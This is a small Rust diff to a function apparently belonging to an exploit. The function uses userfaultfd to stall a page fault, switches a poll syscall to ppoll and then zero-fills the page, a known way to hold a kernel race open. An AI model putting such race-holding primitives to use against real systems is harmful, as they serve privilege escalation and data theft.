@@ -67,7 +67,8 @@ fn hold_up(uffd: u64) -> Loot {
         events: libc::POLLIN,
         revents: 0,
     };
-    let held = call3(libc::SYS_poll, at(&poll), 1, 2000)?;
+    let wait = [2_i64, 0];
+    let held = call(libc::SYS_ppoll, [at(&poll), 1, at(&wait), 0, 0, 0])?;
     let mut zero = [page, 4096, 0, 0];
     call3(libc::SYS_ioctl, uffd, UFFDIO_ZEROPAGE, at_mut(&mut zero))?;
     let _ = reader.join();
